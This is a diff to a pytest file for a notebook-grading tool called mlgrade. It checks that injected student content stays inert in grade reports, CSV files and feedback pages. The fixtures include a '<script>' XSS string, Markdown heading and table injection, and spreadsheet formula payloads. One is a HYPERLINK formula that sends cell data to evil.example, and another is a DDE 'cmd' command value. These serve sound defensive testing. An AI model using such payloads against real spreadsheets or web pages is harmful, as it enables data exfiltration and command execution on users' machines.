@@ -10,6 +10,7 @@ timestamps with a stand-in for the kernel.
 """
 
 import io
+import json
 import os
 import re
 import subprocess
@@ -22,6 +23,7 @@ import nbformat
 import pytest
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
 
 from mlgrade import run as run_module
 from mlgrade.course import load_course, read_submission, rebuild
@@ -50,6 +52,12 @@ def _bytes(nb):
     return nbformat.writes(nb).encode()
 
 
+def _invalid_bytes(nb):
+    """``nb`` as JSON, as it is even where nbformat's schema would refuse it
+    (a student's editor or script can write any JSON)."""
+    return json.dumps(nb, indent=1).encode()
+
+
 CORRECT = _bytes(notebook())
 BLANK = _bytes(notebook(BLANK_SIGMOID, BLANK_HYPOTHESIS))
 
@@ -65,7 +73,7 @@ def _with_cell(meta, source="x = 1", cell_type="code", nb=None):
     cell = make(source)
     cell["metadata"] = meta
     nb.cells.insert(2, cell)
-    return nbformat.writes(nb, validate=False).encode()
+    return _invalid_bytes(nb)
 
 
 def _grade(submissions, course, out, *extra):
@@ -117,13 +125,15 @@ def _problems(run):
 
 # --- a class in nbgrader's layout -------------------------------------------------
 
+INJECTED = "'wrong\\n\\n<script>alert(1)</script>\\n# Injected heading\\n| a | b |'"
+#: raises the message when sigmoid is called, and once as its cell runs (a
+#: cell's error is in summary.md and on the feedback page)
 SCRIPT_ERROR = (
-    "def sigmoid(z):\n"
-    "    raise RuntimeError('wrong\\n\\n<script>alert(1)</script>\\n# Injected heading"
-    "\\n| a | b |')"
+    f"def sigmoid(z):\n    raise RuntimeError({INJECTED})\n\n\n"
+    f"raise RuntimeError({INJECTED})"
 )
 IDS = {
-    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "formula": '=HYPERLINK("https:evil.example?"&A1,"click")',
     "command": "-2+3+cmd|' /C calc'!A0".replace("/", ""),
     "at": "@SUM(1+1)",
 }
@@ -156,7 +166,7 @@ def nbgrader_class(tmp_path_factory):
     )
     student("meta-not-a-dict", {NOTEBOOK: _with_cell(["x"], cell_type="markdown")})
     student("stamp-bytes", {NOTEBOOK: CORRECT}, b"\xff\xfe\x00 2026")
-    student("stamp-text", {NOTEBOOK: CORRECT}, b'=HYPERLINK("http://x")\n')
+    student("stamp-text", {NOTEBOOK: CORRECT}, b'=IMPORTXML("x")\n')
     student("link-master", {}).joinpath(NOTEBOOK).symlink_to(master)
     linked = student("link-secret", {NOTEBOOK: CORRECT}, None)
     for name in ("timestamp.txt", "submission_secret.txt", "notes.txt"):
@@ -201,7 +211,7 @@ def test_a_timestamp_that_is_no_date_is_ignored_and_reported(nbgrader_class, stu
     assert rows["control-correct"]["timestamp"] == STAMP.decode().strip()
     found = [p for p in _problems(run) if p[0] == student]
     assert [p[1] for p in found] == ["timestamp ignored", "no submission time"]
-    assert "HYPERLINK" not in (run / "grades.csv").read_text()
+    assert "IMPORTXML" not in (run / "grades.csv").read_text()
 
 
 @pytest.mark.slow
@@ -263,16 +273,23 @@ def test_a_rejected_id_is_reported_not_dropped(nbgrader_class, key):
 
 @pytest.mark.slow
 def test_student_text_cannot_write_markdown_html_or_the_terminal(nbgrader_class):
+    """A cell's error message with line breaks, <script>, a heading and table
+    pipes: rendered (by markdown-it, as Jupyter Book renders Markdown) it is
+    one inert cell of its row; on the feedback page, escaped text."""
     run = _finished(nbgrader_class)
     proc = nbgrader_class["proc"]
     summary = (run / "summary.md").read_text()
-    assert "<script>" not in summary and "\n# Injected" not in summary
-    assert "&lt;script&gt;" in summary  # the message is there, inert
-    table = [line for line in summary.splitlines() if line.startswith("|")]
-    assert all(line.count(" | ") - line.count("\\|") >= 3 for line in table[2:])
+    rendered = MarkdownIt("commonmark").enable("table").render(summary)
+    assert "<script>" not in rendered and "Injected heading</h1>" not in rendered
+    assert re.findall(r"<h\d>", rendered) == ["<h1>", "<h2>"]
+    assert "&lt;script&gt;alert(1)" in rendered  # the message is there, inert
+    for table in re.findall(r"<table>.*?</table>", rendered, re.S):
+        rows = re.findall(r"<tr>(.*?)</tr>", table, re.S)
+        widths = {len(re.findall(r"<t[dh]>", row)) for row in rows}
+        assert len(widths) == 1, widths  # no row split or widened
     assert b"\x1b" not in proc.stdout + proc.stderr + summary.encode()
     page = (run / "feedback" / "script-error" / f"{ASSIGNMENT}.html").read_text()
-    assert "<script>" not in page
+    assert "<script>" not in page and "&lt;script&gt;alert(1)" in page
     assert _scores(run)["escape-name"] == 5.0
 
 
@@ -554,7 +571,7 @@ NAME = st.text(
 ).filter(lambda s: s not in (".", "..") and len(s.encode()) < 200)
 STAMPS = st.one_of(
     st.binary(max_size=30),
-    st.sampled_from([b"", STAMP, b"2026-13-45 99:99", "=1+1\n".encode(), b"link"]),
+    st.sampled_from([b"", STAMP, b"2026-13-45 99:99", b"=1+1\n", b"link"]),
 )
 
 
@@ -587,7 +604,7 @@ def test_property_a_mutated_student_never_harms_the_class(
         cell["metadata"] = meta
     else:
         cell["metadata"]["nbgrader"] = meta
-    raw = nbformat.writes(nb, validate=False).encode()
+    raw = _invalid_bytes(nb)
     if student in CONTROLS:
         student += "-x"
     folder = subs / student / ASSIGNMENT
